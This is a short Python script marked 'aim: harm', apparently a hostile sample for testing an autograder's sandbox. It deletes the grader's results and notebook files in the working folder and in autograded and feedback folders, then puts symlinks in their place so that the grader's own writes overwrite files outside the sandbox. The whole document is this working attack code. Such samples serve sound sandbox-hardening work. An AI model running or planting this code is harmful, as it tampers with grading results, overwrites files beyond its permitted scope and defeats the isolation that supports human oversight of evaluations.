# Puts links to the grader's files where the grader may write results, so that it overwrites its own.
# aim: harm
# %% first
import glob
import os

for name, target in (("results.json", "@OUTSIDE@/was_here.txt"), ("vault.ipynb", "@OUTSIDE@/overwritten.ipynb")):
    for folder in (".", *glob.glob("@OUTSIDE@/*/autograded/*/vault"), *glob.glob("@OUTSIDE@/*/feedback/*/vault")):
        try:
            path = os.path.join(folder, name)
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink(target, path)
            print("linked", path)
        except OSError as error:
            print(error)
